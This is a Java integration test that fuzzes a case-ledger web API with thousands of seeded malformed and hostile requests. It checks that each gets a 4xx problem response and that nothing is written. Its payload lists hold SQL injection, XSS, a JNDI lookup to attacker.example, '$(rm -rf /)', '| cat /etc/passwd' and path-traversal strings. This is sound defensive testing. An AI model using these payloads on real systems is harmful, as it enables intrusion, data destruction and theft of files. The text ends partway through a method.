package org.caseledger.api.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.caseledger.api.pages.Page;
import org.caseledger.api.support.Fixtures;
import org.caseledger.api.support.IntegrationTest;
import org.caseledger.api.support.LedgerHttp.Response;
import org.caseledger.api.support.LedgerHttp;
import org.caseledger.api.support.ProblemChecks;
import org.caseledger.api.support.RawHttp;
import org.caseledger.core.cases.CaseId;
import org.caseledger.core.cases.ConsentId;
import org.caseledger.core.cases.InterventionId;
import org.caseledger.core.cases.NoteId;
import org.caseledger.core.cases.ReportId;
import org.caseledger.core.cases.VisitId;
import org.caseledger.core.law.LegalBasisId;
import org.caseledger.core.outreach.ActivityId;
import org.caseledger.core.person.PersonalIdentityNumber;
import org.caseledger.core.shared.HouseholdId;
import org.caseledger.core.shared.PersonId;
import org.caseledger.core.shared.StaffId;
import org.caseledger.core.shared.UnitId;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.webmvc.error.ErrorController;
import org.springframework.core.DefaultParameterNameDiscoverer;
import org.springframework.core.MethodParameter;
import org.springframework.web.bind.annotation.PathVariable;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.bind.annotation.ValueConstants;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.core.JacksonException;
import tools.jackson.databind.json.JsonMapper;

/**
 * Thousands of malformed and hostile requests, generated from one seed, against every endpoint that takes input:
 * each is refused with a 4xx problem, none gets a 5xx, and not one event is written. The endpoints and their inputs
 * are read from Spring MVC's own mappings, so a new endpoint is attacked without a change here; an input of a type
 * no generator knows fails the test, naming it. Every request is invalid by construction: free text is never given
 * injection strings (a note may legitimately say anything), only what the ledger refuses in any field.
 */
class HostileInputIT extends IntegrationTest {

    private static final long SEED = 20_260_302L;
    private static final int MEGABYTE = 1_024 * 1_024;

    // The answers that are right for each kind of attempt.
    private static final Set<Integer> MALFORMED = Set.of(400);
    private static final Set<Integer> TOO_LARGE = Set.of(413);
    private static final Set<Integer> NOT_JSON = Set.of(400, 415);
    private static final Set<Integer> NOT_LOGGED_IN = Set.of(400, 401);
    private static final Set<Integer> NOT_ALLOWED = Set.of(403);
    // A hostile path may stop at Tomcat or the firewall (400, 414), or name no endpoint (404, 405).
    private static final Set<Integer> HOSTILE_PATH = Set.of(400, 404, 405, 414);
    // Tomcat answers an oversized header with 400; 431 would be as right.
    private static final Set<Integer> HEADER_TOO_LARGE = Set.of(400, 431);
    // A write that says it is no JSON stops at the cross-site check (415) before its method is looked at.
    private static final Set<Integer> WRONG_METHOD = Set.of(403, 405, 415);

    private static final JsonMapper QUOTING = JsonMapper.builder().build();
    private static final Pattern STACK_TRACE = Pattern.compile("\\bat [\\w$.]+\\([\\w$]+\\.java:\\d+\\)|Caused by: |\\n\\tat ");

    /** Strings that are wrong in every typed field (ids, enums, dates, numbers, booleans, identity numbers). */
    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "1; DROP TABLE domain_event_entry; --", "\" OR 1=1 --", "admin'--",
            "1' UNION SELECT payload FROM domain_event_entry --", "'; UPDATE domain_event_entry SET payload = NULL; --",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
            "${jndi:ldap://attacker.example/a}", "{{7*7}}", "#{7*7}", "../../etc/passwd", "..\\..\\windows\\win.ini",
            "$(rm -rf /)", "`id`", "| cat /etc/passwd", "{\"$gt\": \"\"}", "<!--", "]]>", "%00", "%2e%2e%2f",
            "\u202egnp.exe", "\ud835\udd4f\ud835\udd4f", "\uff33\uff25\uff2c\uff25\uff23\uff34", "\ufeffbom", "line\u2028break");

    private static final List<String> IMPOSSIBLE_INSTANTS = List.of(
            "2026-13-45T25:00:00Z", "2026-02-30T08:15:00Z", "2026-03-02T24:61:00Z", "2026-03-02T08:15:00+25:00",
            "2026-03-02T08:15:00", "2026-03-02", "2026-03-02T08:15:00Z[Mars/Olympus]", "2026-03-02T08:15:00 Europe/Stockholm",
            "+1000000001-01-01T00:00:00Z", "2026-W10-1T08:15:00Z", "2026-03-02T08:15:00.1234567890Z", "yesterday", "now",
            "0000-00-00T00:00:00Z", "2026-03-02T08:15:00ZZ", "2026-03-02T08:15:00+01:00:00:00");

    private static final List<String> IMPOSSIBLE_DATES = List.of(
            "2026-02-30", "2026-13-01", "2026-00-10", "2026-02-29", "1900-02-29", "2026-03-32", "2026-3-2", "2026/03/02",
            "02.03.2026", "yesterday", "+999999999-13-01", "2026-03-02x", "0000-00-00", "2026-03");

    /** Numbers that are no numbers of the field's kind (none parses as a valid one, not even leniently). */
    private static final List<String> IMPOSSIBLE_NUMBERS = List.of(
            "abc", "1.5", "1e3", "99999999999999999999", "-1", "NaN", "Infinity", "1;DROP TABLE x", "<script>", "--1",
            "1_000", "0x");

    private static final List<String> UNKNOWN_ENUM_NAMES = List.of(
            "CARRIER_PIGEON", "UNKNOWN", "__proto__", "<script>alert(1)</script>", "' OR '1'='1", "DROP TABLE");

    private static final List<String> MALFORMED_IF_MATCH = List.of(
            "yesterday", "W/\"1\"", "\"1\", \"2\"", "1", "\"1", "\"abc\"", "\"-1\"", "\"1.0\"", "\"99999999999999999999\"",
            "' OR 1=1 --", "<script>alert(1)</script>", "*, \"1\"", "\"\"", "\"" + "9".repeat(5_000) + "\"", "\"1\u0085\"",
            "\"1\u007f\"");

    private static final List<String> NOT_JSON_CONTENT_TYPES = List.of(
            "text/plain", "text/html", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz",
            "application/octet-stream", "application/json; charset=no-such-charset", "applcation/json", "json",
            "application/json; charset=IBM500");

    /** Byte sequences that are not UTF-8: stray, overlong, surrogate, beyond U+10FFFF, cut short, five bytes long. */
    private static final List<byte[]> NOT_UTF_8 = List.of(
            bytes(0xFF), bytes(0xFE, 0xFF), bytes(0xC3, 0x28), bytes(0xC0, 0xAF), bytes(0xE0, 0x80, 0xAF), bytes(0xED, 0xA0, 0x80),
            bytes(0xF4, 0x90, 0x80, 0x80), bytes(0xE2, 0x82), bytes(0x80), bytes(0xF8, 0x88, 0x80, 0x80, 0x80));

    /** Path segments that break out, hide a separator, end early, cannot be decoded or name nothing at all. */
    private static final List<String> HOSTILE_SEGMENTS = List.of(
            "..", "%2e%2e", ".%2e", "%2e%2e%2f", "..%2f..%2fetc%2fpasswd", "%252e%252e", "%00", "abc%00def", "%2F", "a%5Cb",
            "%C0%AE%C0%AE", "%FF", "%E2%80%AE", "%F0%9F%92%A3", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "%27%20OR%20%271%27%3D%271", "1%3B%20DROP%20TABLE%20x", ";jsessionid=x", "a%20b", "%7B%7B7*7%7D%7D", "null",
            "undefined", "-1", "0", "true", "%5B%5D", "{}", "a|b", "a\"b", "a<b", "~", "*", "", "%", "%zz", "%u002e%u002e");

    /** Characters Tomcat refuses raw in a query. */
    private static final List<String> RAW_QUERY_JUNK = List.of("<script>", "\"x\"", "{x}", "a|b", "a\\b", "a^b", "`x`");

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    private RequestMappingHandlerMapping mappings;

    /** The application's own mapper: it says which fields of a body are required (left out, the body is refused). */
    @Autowired
    private JsonMapper json;

    /** An input of an endpoint: a path variable, a query parameter or a field of the JSON body. */
    private record Input(String name, Class<?> type, Type genericType, boolean required) {
    }

    /** An endpoint as Spring MVC maps it, with the inputs it takes. */
    private record Endpoint(String method, String pattern, List<Input> pathVariables, List<Input> parameters, Class<?> body,
                            boolean bodyRequired, boolean command) {

        String name() {
            return method + " " + pattern;
        }

        boolean takesInput() {
            return !pathVariables.isEmpty() || !parameters.isEmpty() || body != null || command;
        }
    }

    /** One generated request: what it tries, and the statuses that would be right answers. */
    private record Attempt(Endpoint endpoint, String kind, String what, RawHttp.Request request, Set<Integer> expected) {
    }

    /** The kinds of value the generator knows how to give right and how to get wrong. */
    private enum Shape { UUID_ID, TEXT_ID, IDENTITY_NUMBER, ENUM, INSTANT, DATE, BOOLEAN, INTEGER, TEXT, TEXT_LIST, OBJECT }

    @Test
    void everyMalformedOrHostileRequestIsRefusedWithAProblemAndWritesNothing() {
        Map<Class<?>, String> existing = aCaseWithOneOfEverything();
        List<Endpoint> endpoints = endpoints();
        List<Attempt> attempts = attacksOn(endpoints, existing);
        long eventsBefore = storedEvents();
        long idempotencyKeysBefore = idempotencyKeys();

        Tally tally = sendAll(attempts);

        long eventsAfter = storedEvents();
        tally.print(endpoints, eventsBefore, eventsAfter);
        assertThat(attempts).hasSizeBetween(3_000, 8_000);
        assertThat(tally.failures).as("requests not refused with the right 4xx problem").isEmpty();
        assertThat(tally.types).as("problem types answered").hasSizeGreaterThan(5)
                .allSatisfy(type -> assertThat(http.anonymous().get(type).status()).as("GET " + type).isEqualTo(200));
        assertThat(eventsAfter).as("events stored").isEqualTo(eventsBefore);
        assertThat(idempotencyKeys()).as("idempotency keys claimed").isEqualTo(idempotencyKeysBefore);
        assertThat(http.as("lars").get("/api/v1/cases/" + existing.get(CaseId.class)).status()).as("the ledger still answers").isEqualTo(200);
    }

    @Test
    void aNoteWithMarkupIsStoredAsTextAndShownBackAsJsonNeverAsHtml() {
        String caseId = Fixtures.openCase(http);
        String markup = "<script>alert(1)</script>";
        Response created = http.as("anna").post("/api/v1/cases/" + caseId + "/notes", Map.of("text", markup));
        assertThat(created.status()).as(created.toString()).isEqualTo(201);

        String notePath = "/api/v1/cases/" + caseId + "/notes/" + created.field("noteId");
        Response note = http.as("anna").get(notePath);
        Response askedForHtml = http.as("anna").header("Accept", "text/html").get(notePath);

        assertThat(note.status()).isEqualTo(200);
        assertThat(note.contentType()).startsWith("application/json");
        assertThat(note.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(note.field("text")).as("the markup is data: a JSON string, exactly as written").isEqualTo(markup);
        assertThat(askedForHtml.status()).isEqualTo(406);
        assertThat(askedForHtml.contentType()).startsWith("application/problem+json");
    }

    @Test
    void aBodyOverTheLimitIsRefusedWith413BeforeItIsReadWhetherItsLengthIsDeclaredOrNot() throws IOException {
        String casePath = "/api/v1/cases/" + Fixtures.openCase(http) + "/notes";
        byte[] overTheLimit = ("{\"text\":\"" + "x".repeat(MEGABYTE) + "\"}").getBytes(StandardCharsets.UTF_8);
        byte[] underTheLimit = ("{\"text\":\"" + "x".repeat(MEGABYTE - 100) + "\"}").getBytes(StandardCharsets.UTF_8);
        RawHttp raw = new RawHttp(port());
        long before = storedEvents();

        RawHttp.Answer declared = raw.send(post(casePath, "anna", "application/json", overTheLimit, false));
        RawHttp.Answer chunked = raw.send(post(casePath, "anna", "application/json", overTheLimit, true));
        RawHttp.Answer justUnder = raw.send(post(casePath, "anna", "application/json", underTheLimit, false));

        assertThat(List.of(declared, chunked)).allSatisfy(answer -> {
            assertThat(answer.status()).isEqualTo(413);
            assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
            assertThat(answer.text()).contains("högst 1048576 byte", "/problems/request-too-large");
        });
        assertThat(justUnder.status()).as("a body within the limit is read, and its too long text refused").isEqualTo(400);
        assertThat(justUnder.text()).contains("\"field\":\"text\"", "får vara högst");
        assertThat(storedEvents()).isEqualTo(before);
    }

    @Test
    void aBodyThatIsNotUtf8IsRefusedRatherThanStoredAsOtherCharacters() throws IOException {
        String casePath = "/api/v1/cases/" + Fixtures.openCase(http) + "/notes";
        // 0xC0 0xAF is an overlong "/": the JSON parser alone would decode it, and the note would say what nobody wrote.
        byte[] overlong = concat("{\"text\":\"a".getBytes(StandardCharsets.UTF_8), bytes(0xC0, 0xAF), "b\"}".getBytes(StandardCharsets.UTF_8));
        long before = storedEvents();

        RawHttp.Answer answer = new RawHttp(port()).send(post(casePath, "anna", "application/json", overlong, false));

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
        assertThat(answer.text()).contains("/problems/malformed-request", "inte korrekt UTF-8");
        assertThat(storedEvents()).isEqualTo(before);
    }

    @Test
    void refusalsByTomcatTheFirewallAndTheLoginAreProblemsToo() throws IOException {
        RawHttp raw = new RawHttp(port());
        String casePath = "/api/v1/cases/" + Fixtures.openCase(http) + "/notes";
        byte[] note = "{\"text\":\"A note.\"}".getBytes(StandardCharsets.UTF_8);

        RawHttp.Answer oversizedHeader = raw.send(new RawHttp.Request("GET", casePath, List.of(authorization("anna"),
                RawHttp.header("X-Padding", "a".repeat(20_000))), new byte[0], false));
        RawHttp.Answer encodedDots = raw.send(new RawHttp.Request("GET", "/api/v1/cases/%2e%2e/history", List.of(authorization("anna")),
                new byte[0], false));
        RawHttp.Answer wrongPassword = raw.send(new RawHttp.Request("GET", casePath, List.of(RawHttp.header("Authorization",
                basic("anna", "not-the-password"))), new byte[0], false));
        RawHttp.Answer controlCharacterInKey = raw.send(new RawHttp.Request("POST", casePath, List.of(authorization("anna"),
                RawHttp.header("Content-Type", "application/json"), RawHttp.header("Idempotency-Key", "key\u0085")), note, false));
        RawHttp.Answer undecodableQuery = raw.send(new RawHttp.Request("GET", "/api/v1/compliance?from=%zz&to=2026-02-01",
                List.of(authorization("lars")), new byte[0], false));

        assertThat(List.of(oversizedHeader, encodedDots, controlCharacterInKey, undecodableQuery)).allSatisfy(answer -> {
            assertThat(answer.status()).isEqualTo(400);
            assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
        });
        assertThat(wrongPassword.status()).isEqualTo(401);
        assertThat(wrongPassword.header("Content-Type")).startsWith("application/problem+json");
        assertThat(wrongPassword.header("WWW-Authenticate")).startsWith("Basic");
        assertThat(List.of(oversizedHeader, encodedDots, controlCharacterInKey, undecodableQuery, wrongPassword)).allSatisfy(answer ->
                assertThat(ProblemChecks.faults(answer.status(), answer.header("Content-Type"), answer.text())).as(answer.text()).isEmpty());
    }

    /** The attempts on every endpoint; fails if an endpoint has an input no generator knows, or is left unattacked. */
    private List<Attempt> attacksOn(List<Endpoint> endpoints, Map<Class<?>, String> existing) {
        List<String> unknownInputs = new ArrayList<>();
        List<String> generatorFaults = new ArrayList<>();
        List<Attempt> attempts = new Generator(new Random(SEED), existing, unknownInputs, generatorFaults).attacks(endpoints);
        assertThat(unknownInputs).as("inputs of a type no generator knows: give it a valid sample and its corruptions").isEmpty();
        assertThat(generatorFaults).as("samples the application itself refuses, so corruptions of them prove nothing").isEmpty();
        Set<String> attacked = attempts.stream().map(attempt -> attempt.endpoint().name()).collect(Collectors.toSet());
        assertThat(endpoints.stream().filter(Endpoint::takesInput).map(Endpoint::name)).as("endpoints taking input").isNotEmpty()
                .allSatisfy(name -> assertThat(attacked).as("attacked endpoints").contains(name));
        return attempts;
    }

    private Tally sendAll(List<Attempt> attempts) {
        RawHttp raw = new RawHttp(port());
        Tally tally = new Tally(attempts.size());
        for (Attempt attempt : attempts) {
            try {
                RawHttp.Answer answer = raw.send(attempt.request());
                tally.count(attempt, answer.status());
                check(attempt, answer, tally.failures, tally.types);
            } catch (IOException e) {
                tally.count(attempt, 0);
                tally.failures.add(describe(attempt) + " got no answer: " + e.getMessage());
            }
        }
        return tally;
    }

    /** The figures of a run: answers by status, attempts by kind and by endpoint, and what failed. */
    private static final class Tally {

        private final long started = System.nanoTime();
        private final int requests;
        private final Map<Integer, Integer> byStatus = new TreeMap<>();
        private final Map<String, Integer> byKind = new TreeMap<>();
        private final Map<String, Integer> byEndpoint = new TreeMap<>();
        private final List<String> failures = new ArrayList<>();
        private final Set<String> types = new TreeSet<>();

        Tally(int requests) {
            this.requests = requests;
        }

        void count(Attempt attempt, int status) {
            byStatus.merge(status, 1, Integer::sum);
            byKind.merge(attempt.kind(), 1, Integer::sum);
            byEndpoint.merge(attempt.endpoint().name(), 1, Integer::sum);
        }

        void print(List<Endpoint> endpoints, long eventsBefore, long eventsAfter) {
            System.out.printf("%nHostile input (seed %d): %,d requests to %d endpoints in %.1f s; events %d before, %d after%n",
                    SEED, requests, byEndpoint.size(), (System.nanoTime() - started) / 1e9, eventsBefore, eventsAfter);
            System.out.println("  by status: " + byStatus.entrySet().stream()
                    .map(entry -> (entry.getKey() == 0 ? "no answer" : entry.getKey()) + "=" + entry.getValue()).collect(Collectors.joining(" ")));
            System.out.println("  by kind:");
            byKind.forEach((kind, count) -> System.out.printf("    %5d  %s%n", count, kind));
            System.out.println("  by endpoint:");
            byEndpoint.forEach((endpoint, count) -> System.out.printf("    %5d  %s%n", count, endpoint));
            endpoints.stream().filter(endpoint -> !endpoint.takesInput() && endpoint.method().equals("GET"))
                    .forEach(endpoint -> System.out.println("    takes no input, not attacked: " + endpoint.name()));
            failures.stream().limit(40).forEach(failure -> System.out.println("  FAILED " + failure));
        }
    }

    /** A person, a case opened on a report, and a visit, note, intervention, consent and outreach activity in it. */
    private Map<Class<?>, String> aCaseWithOneOfEverything() {
        LedgerHttp anna = http.as("anna");
        String person = Fixtures.registerChild(http);
        Response opened = Fixtures.openCaseOnSchoolReport(http, person);
        assertThat(opened.status()).as(opened.toString()).isEqualTo(201);
        String casePath = "/api/v1/cases/" + opened.field("caseId");
        Map<Class<?>, String> existing = new LinkedHashMap<>();
        existing.put(PersonId.class, person);
        existing.put(CaseId.class, opened.field("caseId"));
        existing.put(ReportId.class, opened.field("reportId"));
        existing.put(VisitId.class, created(anna.post(casePath + "/visits", Map.of("plannedAt", "2026-03-20T09:00:00Z", "place", "HOME")), "visitId"));
        existing.put(NoteId.class, created(anna.post(casePath + "/notes", Map.of("text", "The family moved here in 2023.")), "noteId"));
        existing.put(InterventionId.class, created(anna.post(casePath + "/interventions", Map.of("type", "SERVICE_SUPPORT")), "interventionId"));
        existing.put(ConsentId.class, created(anna.post(casePath + "/consents", Map.of("person", person, "partner", "SCHOOL",
                "partnerName", "Vivallaskolan", "purpose", "Follow up school attendance.", "validFrom", "2026-03-02")), "consentId"));
        existing.put(ActivityId.class, created(anna.post("/api/v1/outreach/anonymous-consultations", Map.of("topic", "PARENTING")), "activityId"));
        existing.put(HouseholdId.class, anna.get(casePath).field("household"));
        return existing;
    }

    private static String created(Response response, String idField) {
        assertThat(response.status()).as(response.toString()).isEqualTo(201);
        return response.field(idField);
    }

    /** Every endpoint of the ledger's controllers, from Spring MVC's mappings, in a stable order. */
    private List<Endpoint> endpoints() {
        List<Endpoint> endpoints = new ArrayList<>();
        mappings.getHandlerMethods().forEach((info, handler) -> {
            // The servlet error page is no endpoint of the ledger: it answers for the others and takes no input. The pages
            // sign in by form and answer HTML; PagesIT sends them their own malformed input.
            // The pages of the problem types are open to anyone and take nothing but a name: ProblemsIT asks for unknown ones.
            if (!handler.getBeanType().getPackageName().startsWith("org.caseledger") || ErrorController.class.isAssignableFrom(handler.getBeanType())
                    || handler.getBeanType().isAnnotationPresent(Page.class) || handler.getBeanType().getPackageName().endsWith(".problems")) {
                return;
            }
            Set<RequestMethod> methods = info.getMethodsCondition().getMethods();
            assertThat(methods).as("HTTP methods of " + handler).isNotEmpty();
            for (String pattern : info.getPatternValues()) {
                for (RequestMethod method : methods) {
                    endpoints.add(endpoint(method.name(), pattern, handler));
                }
            }
        });
        endpoints.sort((a, b) -> a.name().compareTo(b.name()));
        return endpoints;
    }

    private static Endpoint endpoint(String method, String pattern, HandlerMethod handler) {
        List<Input> pathVariables = new ArrayList<>();
        List<Input> parameters = new ArrayList<>();
        Class<?> body = null;
        boolean bodyRequired = false;
        boolean command = false;
        for (MethodParameter parameter : handler.getMethodParameters()) {
            parameter.initParameterNameDiscovery(new DefaultParameterNameDiscoverer());
            PathVariable pathVariable = parameter.getParameterAnnotation(PathVariable.class);
            RequestParam requestParam = parameter.getParameterAnnotation(RequestParam.class);
            RequestBody requestBody = parameter.getParameterAnnotation(RequestBody.class);
            if (pathVariable != null) {
                pathVariables.add(new Input(name(pathVariable.name(), parameter), parameter.getParameterType(),
                        parameter.getGenericParameterType(), true));
            } else if (requestParam != null) {
                parameters.add(new Input(name(requestParam.name(), parameter), parameter.getParameterType(), parameter.getGenericParameterType(),
                        requestParam.required() && requestParam.defaultValue().equals(ValueConstants.DEFAULT_NONE)));
            } else if (requestBody != null) {
                body = parameter.getParameterType();
                bodyRequired = requestBody.required();
            } else if (parameter.getParameterType() == CommandContext.class) {
                command = true;
            } else {
                assertThat(Arrays.stream(parameter.getParameterAnnotations())
                        .filter(annotation -> annotation.annotationType().getPackageName().startsWith("org.springframework.web")))
                        .as("an input of " + method + " " + pattern + " the generator does not know: " + parameter).isEmpty();
            }
        }
        return new Endpoint(method, pattern, pathVariables, parameters, body, bodyRequired, command);
    }

    private static String name(String declared, MethodParameter parameter) {
        return declared.isEmpty() ? parameter.getParameterName() : declared;
    }

    /**
     * Writes the attempts for every endpoint. Each starts from a base request that is well-formed (existing ids in
     * the path, a sample body the application's own mapper accepts) and breaks one thing in it.
     */
    private final class Generator {

        private final Random random;
        private final Map<Class<?>, String> existing;
        private final List<String> unknownInputs;
        private final List<String> faults;
        private final List<Attempt> attempts = new ArrayList<>();

        Generator(Random random, Map<Class<?>, String> existing, List<String> unknownInputs, List<String> faults) {
            this.random = random;
            this.existing = existing;
            this.unknownInputs = unknownInputs;
            this.faults = faults;
        }

        /** Every method and pattern the application serves. */
        private final java.util.Set<String> served = new java.util.HashSet<>();

        List<Attempt> attacks(List<Endpoint> endpoints) {
            endpoints.forEach(endpoint -> served.add(endpoint.method() + " " + endpoint.pattern()));
            for (Endpoint endpoint : endpoints) {
                if (!knowsAllInputs(endpoint)) {
                    continue;
                }
                if (endpoint.takesInput() || !endpoint.method().equals("GET")) {
                    envelope(endpoint);
                }
                endpoint.pathVariables().forEach(variable -> pathVariable(endpoint, variable));
                endpoint.parameters().forEach(parameter -> queryParameter(endpoint, parameter));
                if (endpoint.body() != null) {
                    body(endpoint);
                }
                if (endpoint.command()) {
                    commandHeaders(endpoint);
                }
            }
            return attempts;
        }

        private boolean knowsAllInputs(Endpoint endpoint) {
            int before = unknownInputs.size();
            for (Input input : concat(endpoint.pathVariables(), endpoint.parameters())) {
                if (shape(input.type(), input.genericType()) == null) {
                    unknownInputs.add(endpoint.name() + ": " + input.name() + " of type " + input.genericType().getTypeName());
                }
            }
            if (endpoint.body() != null && !endpoint.body().isRecord()) {
                unknownInputs.add(endpoint.name() + ": a body of type " + endpoint.body().getName() + ", not a record");
            } else if (endpoint.body() != null) {
                fields(endpoint.body(), List.of()).stream().filter(field -> field.shape() == null)
                        .forEach(field -> unknownInputs.add(endpoint.name() + ": body field " + field.name() + " of type "
                                + field.genericType().getTypeName()));
            }
            return unknownInputs.size() == before;
        }

        // ---- what every endpoint shares: who asks, how, and how large the headers are

        private void envelope(Endpoint endpoint) {
            List<String> credentials = List.of(
                    basic(user(endpoint), "not-the-password"), basic("nobody", LedgerHttp.PASSWORD), basic(user(endpoint), ""),
                    "Basic !!!not-base64!!!", "Basic " + base64(user(endpoint)), "Bearer eyJhbGciOiJub25lIn0.e30.", "Basic",
                    "Digest username=\"" + user(endpoint) + "\"", basic("' OR '1'='1", "' OR '1'='1"), basic("x".repeat(5_000), "y"),
                    basic(user(endpoint).toUpperCase(Locale.ROOT), LedgerHttp.PASSWORD), "Basic \u0085", basic("<script>", "x"));
            for (String credential : pick(credentials, 4)) {
                add(endpoint, "bad credentials", credential, base(endpoint).withAuthorization(credential), NOT_LOGGED_IN);
            }
            add(endpoint, "bad credentials", "none", base(endpoint).withAuthorization(null), NOT_LOGGED_IN);
            String outsider = otherUser(endpoint);
            if (outsider != null) {
                add(endpoint, "wrong role", outsider, base(endpoint).as(outsider), NOT_ALLOWED);
            }
            int padding = 17_000 + random.nextInt(24_000);
            add(endpoint, "oversized header", padding + " bytes", base(endpoint).withHeader("X-Padding", "a".repeat(padding)), HEADER_TOO_LARGE);
            String other = endpoint.method().equals("GET") ? "POST" : "GET";
            // A path that serves both (GET /api/v1/audit/checkpoints lists what POST seals) has no wrong one of the two.
            if (!served.contains(other + " " + endpoint.pattern())) {
                add(endpoint, "wrong method", other, base(endpoint).withMethod(other).withBody(new byte[0], null), WRONG_METHOD);
            }
            // Not the endpoint's own method: a DELETE endpoint answers a DELETE as asked.
            List<String> others = Stream.of("PUT", "PATCH", "DELETE").filter(method -> !method.equals(endpoint.method())).toList();
            String unsupported = pick(others, 1).get(0);
            add(endpoint, "wrong method", unsupported, base(endpoint).withMethod(unsupported), WRONG_METHOD);
        }

        // ---- path variables and query parameters

        private void pathVariable(Endpoint endpoint, Input variable) {
            Shape shape = shape(variable.type(), variable.genericType());
            for (String segment : pick(HOSTILE_SEGMENTS, 8)) {
                add(endpoint, "hostile path id", variable.name() + "=" + abbreviate(segment),
                        base(endpoint).withPath(variable.name(), segment), HOSTILE_PATH);
            }
            for (String junk : pick(INJECTIONS, 3)) {
                add(endpoint, shape == Shape.TEXT ? "hostile path id" : "injection in typed field", variable.name() + "=" + junk,
                        base(endpoint).withPath(variable.name(), encode(junk)), HOSTILE_PATH);
            }
            for (int length : List.of(300 + random.nextInt(700), 4_000 + random.nextInt(8_000), 17_000 + random.nextInt(10_000))) {
                add(endpoint, "hostile path id", variable.name() + " of " + length + " characters",
                        base(endpoint).withPath(variable.name(), "a".repeat(length)), HOSTILE_PATH);
            }
            if (shape == Shape.UUID_ID) {
                String id = existing.getOrDefault(variable.type(), new UUID(random.nextLong(), random.nextLong()).toString());
                for (String broken : List.of(id.replace("-", ""), id + "x", id.substring(1), "{" + id + "}", id + "%00", id + "/..",
                        id.replace('-', '_'))) {
                    add(endpoint, "hostile path id", variable.name() + "=" + broken, base(endpoint).withPath(variable.name(), broken),
                            HOSTILE_PATH);
                }
            }
        }

        private void queryParameter(Endpoint endpoint, Input parameter) {
            Shape shape = shape(parameter.type(), parameter.genericType());
            // A text parameter may be a free filter (any staff id may be searched for), so only typed ones get wrong values;
            // every parameter gets what no query may carry.
            if (shape != Shape.TEXT) {
                for (String value : pick(wrongTexts(shape), 10)) {
                    add(endpoint, kindOfWrongText(shape), parameter.name() + "=" + abbreviate(value),
                            base(endpoint).withQuery(parameter.name(), encode(value)), MALFORMED);
                }
            }
            for (String value : pick(RAW_QUERY_JUNK, 2)) {
                add(endpoint, "hostile query parameter", parameter.name() + "=" + value + " (raw)", base(endpoint).withQuery(parameter.name(), value),
                        MALFORMED);
            }
            int length = 17_000 + random.nextInt(10_000);
            add(endpoint, "hostile query parameter", parameter.name() + " of " + length + " characters",
                    base(endpoint).withQuery(parameter.name(), "a".repeat(length)), Set.of(400, 414));
            for (String undecodable : List.of("%zz", "%", "%e2%82")) {
                add(endpoint, "hostile query parameter", parameter.name() + "=" + undecodable,
                        base(endpoint).withQuery(parameter.name(), undecodable), MALFORMED);
            }
            if (parameter.required()) {
                add(endpoint, "missing or null field", parameter.name(), base(endpoint).withoutQuery(parameter.name()), MALFORMED);
            }
        }

        // ---- the JSON body

        private void body(Endpoint endpoint) {
            Map<String, Object> sample = sampleObject(endpoint.body());
            byte[] valid = render(sample);
            if (refusedByTheMapper(valid, endpoint.body())) {
                faults.add(endpoint.name() + ": " + new String(valid, StandardCharsets.UTF_8));
                return;
            }
            wholeBody(endpoint, valid);
            List<Field> fields = fields(endpoint.body(), List.of());
            for (Field field : fields) {
                field(endpoint, sample, field);
            }
            for (int i = 0; i < 3; i++) {
                String name = pick(List.of("mood", "__proto__", "constructor", "$where", "caseId", "occurred_at", "OCCURREDAT", "",
                        "text\u0000", "<script>", "id' OR '1'='1"), 1).get(0);
                boolean isComponent = fields.stream().anyMatch(field -> field.path().size() == 1 && field.path().get(0).equals(name));
                if (!isComponent) {
                    Map<String, Object> extra = copy(sample);
                    extra.put(name, quote(pick(INJECTIONS, 1).get(0)));
                    add(endpoint, "extra field", abbreviate(name), base(endpoint).withBody(render(extra)), MALFORMED);
                }
            }
            Map<String, Object> deep = copy(sample);
            deep.put("nested", nestedArrays(10_000));
            add(endpoint, "deep nesting", "10000 arrays in an extra field", base(endpoint).withBody(render(deep)), MALFORMED);
            for (String contentType : pick(NOT_JSON_CONTENT_TYPES, 5)) {
                add(endpoint, "wrong Content-Type", contentType, base(endpoint).withBody(valid, contentType), NOT_JSON);
            }
            add(endpoint, "wrong Content-Type", "none", base(endpoint).withBody(valid, null), NOT_JSON);
            int padded = MEGABYTE + 1 + random.nextInt(2 * MEGABYTE);
            add(endpoint, "huge body", padded + " bytes, mostly spaces", base(endpoint).withBody(pad(valid, padded)), TOO_LARGE);
            int chunked = MEGABYTE + 1 + random.nextInt(MEGABYTE);
            add(endpoint, "huge body", chunked + " bytes in chunks", base(endpoint).withBody(pad(valid, chunked)).inChunks(), TOO_LARGE);
        }

        private void wholeBody(Endpoint endpoint, byte[] valid) {
            String text = new String(valid, StandardCharsets.UTF_8);
            List<String> malformed = new ArrayList<>(List.of(
                    text + " x", text + "{}", text.replace('"', '\''), "/* comment */" + text, text.substring(0, text.length() - 1) + ",}",
                    text.replaceAll("\"(\\w+)\":", "$1:"), text.replace(":", "="), "{" + text, text + "]"));
